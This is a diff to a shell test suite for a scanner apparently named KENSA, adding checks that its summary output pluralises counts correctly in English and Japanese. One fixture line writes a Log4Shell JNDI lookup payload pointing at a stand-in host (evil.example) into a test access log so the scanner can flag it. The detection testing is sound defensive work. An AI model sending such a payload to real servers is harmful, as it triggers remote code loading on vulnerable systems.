@@ -4,6 +4,7 @@
 # help and man page, restore's messages, and --help agreeing with the
 # man pages.
 
+bats_require_minimum_version 1.5.0
 load helpers
 
 setup_file() {
@@ -23,6 +24,25 @@ setup_file() {
     run script -qec "'$KENSA' log4j --threads 1 '$FX/plain'" /dev/null
     [[ "$output" == *" files, "* ]]
     [[ "$output" != *" 1 files"* && "$output" != *" 1 findings"* ]]
+}
+
+@test "summary of one file: 1 object, not 1 objects (Japanese has no plural)" {
+    T="$BATS_TEST_TMPDIR/one"; mkdir -p "$T"
+    echo hello > "$T/a.txt"
+    run --separate-stderr "$KENSA" scan --threads 1 --color never "$T"
+    [ "$status" -eq 0 ]
+    grep -qxF 'Scanned files: 1 (0.0 MB, 1 object)' <<<"$stderr"
+    [[ "$stderr" != *"1 objects"* ]]
+    run --separate-stderr "$KENSA" scan --threads 1 --color never --lang ja "$T"
+    grep -qxF 'スキャンしたファイル：1 件（0.0 MB、オブジェクト 1 個）' <<<"$stderr"
+    # two: the plural, as before
+    echo again > "$T/b.txt"
+    run --separate-stderr "$KENSA" scan --threads 1 --color never "$T"
+    grep -qxF 'Scanned files: 2 (0.0 MB, 2 objects)' <<<"$stderr"
+    # a log hunt with one hit in a file: "1 hit"
+    echo 'GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1' > "$T/access.log"
+    run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary "$T"
+    [[ "$output" == *"access.log: 1 hit, first"* ]]
 }
 
 @test "advice wrapped to 80 columns when not a terminal, once, --no-advice drops it" {
